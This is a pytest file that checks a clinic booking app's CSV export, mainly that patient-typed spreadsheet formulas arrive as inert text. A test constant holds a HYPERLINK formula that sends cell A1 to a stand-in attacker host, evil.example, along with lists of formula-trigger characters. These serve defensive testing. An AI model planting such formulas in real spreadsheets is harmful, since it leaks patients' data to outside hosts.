"""Requests as CSV: every answer in its column, and no cell that a spreadsheet program would run."""

import csv
import dataclasses
import unicodedata
from datetime import UTC, date, datetime

import pytest
from cryptography.fernet import Fernet
from hypothesis import example, given
from hypothesis import strategies as st

from appointments import csv_export, desk
from appointments.answers import Answers, Choice, Kind, Phone
from appointments.models import BookingEvent, BookingRequest
from clinic_site import encryption
from tests.appointments.requests import answers, received

NOW = datetime(2026, 11, 23, 15, tzinfo=UTC)  # 10 a.m. in Tampa
NASTY = '=HYPERLINK("https://evil.example/?"&A1,"x")\nSecond; line, "quoted"'
HIDDEN = " \t\r\n\0\u00a0\u200b\u200e\u2028\u3000\ufeff"
SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"


def rows(pks, by):
    text = "".join(csv_export.start(pks, by=by))
    assert text.startswith("\ufeff")
    return list(csv.DictReader(text.removeprefix("\ufeff").splitlines(keepends=True)))


@given(st.text(st.characters(codec="utf-8")) | st.text(SIGNS + HIDDEN + "a1'\",;"))
@example("\u200b\ufeff ＝1+1")
@example("\tsafe")
def test_no_cell_begins_like_a_formula(text):
    """OWASP's signs, their twins, and whatever may stand unseen before them."""
    cell = csv_export.guarded(text)
    assert cell in (text, f"'{text}")
    visible = [character for character in cell if unicodedata.category(character)[0] not in "ZC"]
    assert not visible or unicodedata.normalize("NFKC", visible[0])[0] not in "=+-@−"
    assert cell[:1] not in ("\t", "\r", "\n")


@pytest.mark.parametrize("text", ["", "Knee", "3/14/1971", "(904) 555-0163", "a=b", "2-3 days", "'quoted'", "💥", "é"])
def test_a_harmless_cell_stays_as_it_is(text):
    assert csv_export.guarded(text) == text


@pytest.mark.django_db
def test_everything_a_patient_answered_has_its_column(frontdesk, clinic):
    full = answers(
        kind=Kind.REHAB,
        birth_date=date(1971, 3, 14),
        phone=Phone("(904) 555-0163 ext. 7", "+19045550163", "7"),
        needs=("interpreter", "access"),
        referral="not_sure",
        seen_before="yes",
        physician=Choice("amelia-hart", "Amelia Hart, MD"),
        surgery_month=4,
        surgery_year=2026,
        location=Choice("harbor", "Harbor Street"),
    )
    more = {field.name: getattr(full, field.name) for field in dataclasses.fields(Answers)}
    request = received(at=NOW, **more)
    [row] = rows([request.pk], frontdesk)
    assert row["reference"] == request.reference
    assert (row["kind"], row["state"], row["submitted at"]) == ("Rehab", "New", "2026-11-23 10:00")
    assert (row["first name"], row["last name"], row["birth date"]) == ("Quillon", "Vanterpool", "1971-03-14")
    assert (row["phone as typed"], row["phone number"]) == ("(904) 555-0163 ext. 7", "'+19045550163")
    assert (row["phone extension"], row["needs"], row["voicemail"]) == ("7", "Interpreter, Help with access", "Yes")
    assert (row["physician"], row["wanted location"], row["location"]) == ("Amelia Hart, MD", "Harbor Street", "")
    assert (row["surgery month"], row["surgery year"], row["suspected spam"]) == ("4", "2026", "No")
    assert (row["asking for"], row["referral"], row["seen before"]) == ("Themselves", "Not sure", "Yes")
    assert (row["call times"], row["needs detail"]) == ("Morning", "")
    for field in dataclasses.fields(Answers):
        assert field.name in ("phone", "location") or field.name.replace("_", " ") in row


@pytest.mark.django_db
def test_a_formula_that_a_patient_typed_arrives_as_text_in_one_cell(frontdesk, clinic):
    request = received(first_name="@SUM(1+1)", last_name=" -2+3", reason=NASTY, email="")
    [row] = rows([request.pk], frontdesk)
    assert (row["first name"], row["last name"]) == ("'@SUM(1+1)", "' -2+3")
    assert row["reason"] == f"'{NASTY}"


@pytest.mark.django_db
def test_of_a_destroyed_request_the_skeleton_is_left(frontdesk, clinic):
    request = received(at=NOW, email="")
    desk.close(request, by=frontdesk, version=1, reason="declined", at=NOW)
    gone = dict.fromkeys(["sealed_answers", "phone_hash", "birth_date_hash", "last_name_hash"], "")
    BookingRequest.objects.update(**gone, purged_at=NOW)
    [row] = rows([request.pk], frontdesk)
    assert (row["state"], row["close reason"], row["purged at"]) == (
        "Closed",
        "Does not want a visit anymore",
        "2026-11-23 10:00",
    )
    assert {value for name, value in row.items() if name in ("last name", "phone as typed", "reason")} == {""}
    assert len(row) == len(csv_export.HEADINGS) == len(set(csv_export.HEADINGS)) and None not in row


@pytest.mark.django_db
def test_it_is_recorded_before_the_first_line(frontdesk, clinic):
    first, second, other = (received(email="") for _ in range(3))
    lines = csv_export.start([first.pk, second.pk], by=frontdesk)
    events = BookingEvent.objects.filter(kind="exported", actor=frontdesk)
    assert {event.request for event in events} == {first, second}
    next(lines)
    assert events.count() == 2 and not other.events.filter(kind="exported").exists()


@pytest.mark.django_db
def test_what_a_patient_typed_is_no_code(frontdesk, clinic):
    request = received(first_name="me", last_name="no", reason="not_sure", email="")
    [row] = rows([request.pk], frontdesk)
    assert (row["first name"], row["last name"], row["reason"]) == ("me", "no", "not_sure")


@pytest.mark.django_db
def test_another_reason_asks_nobody_for_a_note(frontdesk, clinic):
    request = received(at=NOW, email="")
    desk.close(request, by=frontdesk, version=1, reason="other", note="Moved away.", at=NOW)
    assert rows([request.pk], frontdesk)[0]["close reason"] == "Another reason"


@pytest.mark.django_db
def test_where_one_cannot_be_opened_nothing_leaves_and_nothing_is_recorded(frontdesk, clinic, settings, monkeypatch):
    monkeypatch.setattr(csv_export, "CHUNK", 2)
    key, other = settings.BOOKING_KEYS[0], Fernet.generate_key().decode()
    pks = [received(email="").pk for _ in range(4)]
    settings.BOOKING_KEYS = [other]
    pks.append(received(email="").pk)
    settings.BOOKING_KEYS = [key]
    with pytest.raises(encryption.WrongKey):
        csv_export.start(pks, by=frontdesk)
    assert not BookingEvent.objects.filter(kind="exported").exists()
    settings.BOOKING_KEYS = [other, key]
    assert len(rows(pks, frontdesk)) == 5


@pytest.mark.django_db
def test_many_are_read_some_at_a_time(frontdesk, clinic, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(csv_export, "CHUNK", 2)
    pks = [received(email="", last_name=f"N{i}").pk for i in "ABCDE"]
    with django_assert_num_queries(3 + 1 + 3):
        found = rows(pks, frontdesk)
    assert [row["last name"] for row in found] == ["NA", "NB", "NC", "ND", "NE"]
